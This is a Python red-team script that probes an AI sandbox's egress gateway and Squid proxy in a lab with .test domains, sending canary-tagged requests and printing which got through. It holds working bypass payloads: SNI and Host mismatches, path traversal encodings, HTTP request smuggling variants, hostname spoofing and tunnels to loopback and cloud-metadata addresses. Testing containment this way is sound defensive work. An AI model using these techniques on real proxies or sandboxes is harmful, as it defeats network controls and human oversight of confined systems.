"""Attacks on the way out, from inside a sandbox: red team A and C, one after the other.

attack.py HTTP HTTPS ADDRESS [--direct] [TIMES]     ports and address of the lab's origin

Prints one line a case: NAME OUTCOME, where OUTCOME is the status of the answer, `closed`, or `data` for bytes that
are no HTTP. Every case carries `canary-NAME` where the origin would write it down, so that its log tells what got through.
Allowed: http and https of allowed.test. Anything else is refused.

TIMES is how often each is tried; only what got through, or else the last outcome, is printed.
With --direct the gateway is left out: each canary is sent to ADDRESS itself, as it would be without aibox.
"""

import re
import socket
import ssl
import sys

HTTP, HTTPS, ADDRESS = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
DIRECT = "--direct" in sys.argv
TIMES = int(sys.argv[-1]) if len(sys.argv) > 4 and sys.argv[-1].isdigit() else 1
GATEWAY = "10.200.1.1"
PROXY = (GATEWAY, 3128)


def connect(place):
    link = socket.create_connection(place, 5)
    link.settimeout(5)
    return link


def answer(link):
    data = b""
    try:
        while b"\r\n\r\n" not in data and len(data) < 65536:
            block = link.recv(4096)
            if not block:
                break
            data += block
    except OSError:
        pass
    if not data:
        return "closed"
    return data.split()[1].decode() if data.startswith(b"HTTP/1.") else "data"


def send(place, *parts):
    link = connect(place)
    with link:
        for part in parts:
            try:
                link.sendall(part)
            except OSError:
                return "closed"
        return answer(link)


def get(target, host, more=b""):
    return b"GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (target.encode(), host.encode(), more)


def tunnel(authority):
    link = connect(PROXY)
    link.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority.encode(), authority.encode()))
    status = answer(link)
    return link, status


def tls(link, name, request, protocols=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(protocols)
    try:
        with context.wrap_socket(link, server_hostname=name) as inner:
            inner.sendall(request)
            return answer(inner)
    except (OSError, ssl.SSLError):
        return "closed"


def inside(authority, name, request, protocols=None):
    link, status = tunnel(authority)
    with link:
        if status != "200":
            return status
        return tls(link, name, request, protocols)


def http2(authority, path):
    """The preface, empty settings, and one GET (RFC 9113 section 3.4, RFC 7541 section 6)."""
    fields = b"\x82\x87\x04" + bytes([len(path)]) + path.encode() + b"\x01" + bytes([len(authority)]) + authority.encode()
    frames = b"\0\0\0\4\0\0\0\0\0" + len(fields).to_bytes(3, "big") + b"\1\5\0\0\0\1" + fields
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frames


def smuggle(link, data):
    """Bytes that may be one request or two: the last answer, or `closed` if none or only the first has one."""
    text = b""
    try:
        link.sendall(data)
        link.settimeout(0.5)
        while block := link.recv(65536):
            text += block
    except (OSError, ssl.SSLError):
        pass
    link.close()
    found = [status.decode() for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", text)]
    return "closed" if found in ([], ["200"]) else found[-1]


def smuggle_inside(authority, name, data):
    link, status = tunnel(authority)
    if status != "200":
        return status
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        return smuggle(context.wrap_socket(link, server_hostname=name), data)
    except (OSError, ssl.SSLError):
        return "closed"


def raw_inside(authority, data):
    link, status = tunnel(authority)
    with link:
        if status != "200":
            return status
        link.sendall(data)
        return answer(link)


def absolute(host, name, path="/", more=b""):
    url = "http://%s:%d%s%scanary-%s" % (host, HTTP, path, "" if path.endswith("/") else "/", name)
    return send(PROXY, get(url, "%s:%d" % (host, HTTP), more))


def cases():
    """NAME, attack. The number in front is the case's in the red team's list."""
    a = "allowed.test:%d" % HTTPS
    yield "A01-sni", lambda n: inside(a, "denied.test", get("/canary-" + n, "denied.test"))
    yield "A01-sni-other-allowed", lambda n: inside(a, "other.test", get("/canary-" + n, "other.test"))
    yield "A01-no-sni", lambda n: inside(a, None, get("/canary-" + n, "allowed.test"))
    yield "A03-h2-in-the-clear", lambda n: send(PROXY, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + n.encode())
    # The gateway opens the tunnels to this one (`paths.test` by https).
    p = "paths.test:%d" % HTTPS
    yield "A03-h2-other-authority", lambda n: inside(p, "paths.test", http2("denied.test", "/public/canary-" + n), ["h2"])
    yield "A03-h2-other-authority-unasked", lambda n: inside(p, "paths.test", http2("denied.test", "/public/canary-" + n))
    yield "A03-other-host", lambda n: inside(p, "paths.test", get("/public/canary-" + n, "denied.test"))
    yield "A03-other-url", lambda n: inside(p, "paths.test", get("https://denied.test/public/canary-" + n, "paths.test"))
    yield "A03-plain-url", lambda n: inside(p, "paths.test", get("http://%s/public/canary-%s" % (p, n), "paths.test"))
    yield "A03-opened-sni", lambda n: inside(p, "denied.test", get("/public/canary-" + n, "paths.test"))
    for name, path in [("plain", "/secret"), ("dots", "/public/../secret"), ("encoded-dots", "/public/%2e%2e/secret")]:
        yield "A13-opened-" + name, lambda n, path=path: inside(p, "paths.test", get(path + "/canary-" + n, p))
    yield "A05-host-of-another", lambda n: send((GATEWAY, 80), get("/canary-" + n, "denied.test"))
    yield "A05-tls-of-another", lambda n: tls(connect((GATEWAY, 443)), "denied.test", get("/canary-" + n, "allowed.test"))
    yield "A07-ssh", lambda n: raw_inside(a, b"SSH-2.0-canary-" + n.encode() + b"\r\n")
    yield "A07-plain-http", lambda n: raw_inside(a, get("/canary-" + n, "allowed.test"))
    yield "A07-bytes", lambda n: raw_inside(a, b"\x00\x01canary-" + n.encode())
    yield "A07-on-443", lambda n: send((GATEWAY, 443), get("/canary-" + n, "allowed.test"))
    for name, host in [
        ("suffix", "allowed.test.evil.test"), ("prefix", "evilallowed.test"), ("leading-dot", ".allowed.test"),
        ("empty-label", "allowed..test"), ("two-dots", "allowed.test.."), ("long", "a" * 64 + ".allowed.test"),
        ("very-long", ".".join(["a" * 50] * 6) + ".allowed.test"), ("subdomain", "x.allowed.test"),
        ("homograph", "xn--llowed-2of.test"), ("userinfo", "allowed.test@denied.test"), ("parent", "test"),
        ("underscore", "allowed_.test"), ("tab", "allowed.test%09.denied.test"), ("nul", "allowed.test%00.denied.test"),
    ]:
        yield "A09-" + name, lambda n, host=host: absolute(host, n)
    yield "A11-uri-denied", lambda n: send(
        PROXY, get("http://denied.test:%d/canary-%s" % (HTTP, n), "allowed.test:%d" % HTTP))
    yield "A11-host-denied", lambda n: send(
        PROXY, get("http://allowed.test:%d/canary-%s" % (HTTP, n), "denied.test:%d" % HTTP))
    yield "A11-two-hosts", lambda n: send(
        PROXY, get("http://allowed.test:%d/canary-%s" % (HTTP, n), "allowed.test", b"Host: denied.test\r\n"))
    for name, path in [
        ("dots", "/public/../secret"), ("encoded-dots", "/public/%2e%2e/secret"), ("mixed", "/public/%2E./secret"),
        ("double", "//secret"), ("parameter", "/public/..;/secret"), ("encoded-slash", "/public/..%2fsecret"),
        ("backslash", "/public/..\\secret"), ("twice", "/public/%252e%252e/secret"), ("plain", "/secret"),
    ]:
        yield "A13-" + name, lambda n, path=path: absolute("paths.test", n, path)
    smuggled = b"GET http://denied.test/canary-%s HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    post = b"POST http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n" % (HTTP, HTTP)
    for name, head in [
        ("cl-te", b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("te-cl", b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n"),
        ("two-lengths", b"Content-Length: 0\r\nContent-Length: 60\r\n\r\n"),
        ("folded", b"X-A: b\r\n Transfer-Encoding: chunked\r\n\r\n"),
        ("space", b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"),
        ("bare-line-feed", b"X-A: b\nTransfer-Encoding: chunked\r\n\r\n"),
        ("obfuscated", b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
    ]:
        yield "A15-" + name, lambda n, head=head: send(PROXY, post + head + smuggled % n.encode())
    # Where paths are limited: in what the gateway reads, and in a tunnel that it opened, where Squid alone does.
    limited = b"GET http://paths.test:%d/public/x HTTP/1.1\r\nHost: paths.test:%d\r\n" % (HTTP, HTTP)
    opened = b"GET /public/x HTTP/1.1\r\nHost: %s\r\n" % p.encode()
    for name, head in [
        ("pipelined", b"\r\n"),
        # A server that takes no body with GET reads the next request in it.
        ("cl-0", b"Content-Length: %d\r\n\r\n"),
        ("te-0", b"Transfer-Encoding: chunked\r\n\r\n%x\r\n"),
        ("cl-te", b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("te-cl", b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n"),
        ("two-lengths", b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n"),
        ("folded", b"X-A: b\r\n Transfer-Encoding: chunked\r\n\r\n"),
        ("space", b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"),
        ("bare-line-feed", b"X-A: b\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("obfuscated", b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
    ]:
        def hidden(n, head):
            second = b"GET /secret/canary-%s HTTP/1.1\r\nHost: paths.test\r\nConnection: close\r\n\r\n" % n.encode()
            if b"%" not in head:
                return head + second
            return head % len(second) + second + (b"\r\n0\r\n\r\n" if b"chunked" in head else b"")
        yield "A15-limited-" + name, lambda n, head=head: smuggle(connect(PROXY), limited + hidden(n, head))
        yield "A15-opened-" + name, lambda n, head=head: smuggle_inside(p, "paths.test", opened + hidden(n, head))
    for name, more in [
        ("user-agent", b"User-Agent: Mozilla/5.0\r\n"), ("forwarded", b"X-Forwarded-For: 127.0.0.1\r\n"),
        ("authorization", b"Proxy-Authorization: Basic cm9vdDpyb290\r\n"), ("secret", b"X-Aibox-Secret: 1\r\n"),
    ]:
        yield "A19-" + name, lambda n, more=more: absolute("denied.test", n, "/", more)
    for name, authority in [
        ("address", "%s:%d" % (ADDRESS, HTTPS)), ("loopback", "127.0.0.1:22"), ("v6", "[::1]:443"),
        ("mapped", "[::ffff:7f00:1]:443"), ("decimal", "2130706433:%d" % HTTPS), ("hexadecimal", "0x7f000001:%d" % HTTPS),
        ("octal", "0177.0.0.1:%d" % HTTPS), ("short", "127.1:%d" % HTTPS), ("metadata", "169.254.169.254:80"),
        ("other-port", "allowed.test:22"), ("gateway", "10.200.1.1:3128"), ("no-host", ":443"),
    ]:
        yield "A21-" + name, lambda n, authority=authority: inside(
            authority, "allowed.test", get("/canary-" + n, "allowed.test"))


def allowed():
    """What has to pass, so that a refusal means something."""
    yield "http", lambda n: absolute("allowed.test", n)
    yield "https", lambda n: inside("allowed.test:%d" % HTTPS, "allowed.test", get("/canary-" + n, "allowed.test"))
    yield "capitals", lambda n: absolute("ALLOWED.Test", n)
    yield "final-dot", lambda n: absolute("allowed.test.", n)
    yield "path", lambda n: absolute("paths.test", n, "/public/x")
    yield "opened", lambda n: inside(
        "paths.test:%d" % HTTPS, "paths.test", get("/public/canary-" + n, "paths.test:%d" % HTTPS))


def direct(name):
    if name.startswith("A07-ssh") or name.startswith("A07-bytes"):
        return send((ADDRESS, HTTP), b"canary-" + name.encode() + b" / HTTP/1.1\r\n\r\n")
    return send((ADDRESS, HTTP), get("/canary-" + name, "denied.test"))


for name, attack in list(allowed()) + list(cases()):
    for turn in range(TIMES):
        try:
            outcome = direct(name) if DIRECT else attack(name)
        except OSError as error:
            outcome = "closed" if isinstance(error, (ConnectionError, TimeoutError)) else "error %s" % error
        if outcome == "200":
            break
    print(name, outcome, flush=True)
